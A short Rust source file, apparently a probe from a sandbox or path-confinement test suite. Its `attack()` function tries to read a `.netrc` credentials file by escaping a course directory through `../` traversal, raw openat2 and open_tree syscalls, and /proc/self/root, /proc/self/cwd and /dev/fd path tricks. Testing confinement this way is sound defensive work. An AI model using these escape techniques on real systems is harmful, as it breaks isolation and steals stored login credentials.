use std::ffi::CString;
use std::fs::{self, File};
use std::io::{self, Read};
use std::os::fd::{FromRawFd, RawFd};

unsafe extern "C" {
    fn syscall(number: i64, ...) -> i64;
}

const OPEN_TREE: i64 = 428;
const OPENAT2: i64 = 437;
const HERE: i64 = -100;
const SECRET: &str = "@course@/../home/.netrc";

fn read(descriptor: i64) -> Option<String> {
    let mut text = String::new();
    let descriptor = RawFd::try_from(descriptor).ok().filter(|descriptor| *descriptor >= 0)?;
    unsafe { File::from_raw_fd(descriptor) }.read_to_string(&mut text).ok()?;
    Some(text)
}

pub fn attack() -> io::Result<Option<String>> {
    let path = CString::new(SECRET)?;
    let how = [0_u64; 3];
    let opened = unsafe { syscall(OPENAT2, HERE, path.as_ptr(), how.as_ptr(), 24_u64) };
    if let Some(text) = read(opened) {
        return Ok(Some(text));
    }
    let tree = unsafe { syscall(OPEN_TREE, HERE, path.as_ptr(), 0_u64) };
    let folder = std::env::current_dir()?;
    let ways = [
        SECRET.into(),
        format!("/proc/self/cwd/{SECRET}"),
        format!("/proc/self/root{}/{SECRET}", folder.display()),
        format!("/proc/thread-self/root{}/{SECRET}", folder.display()),
        format!("/proc/self/fd/{tree}"),
        format!("/dev/fd/{tree}"),
    ];
    ways.iter()
        .find_map(|way| fs::read_to_string(way).ok())
        .map(Some)
        .ok_or_else(|| io::ErrorKind::PermissionDenied.into())
}
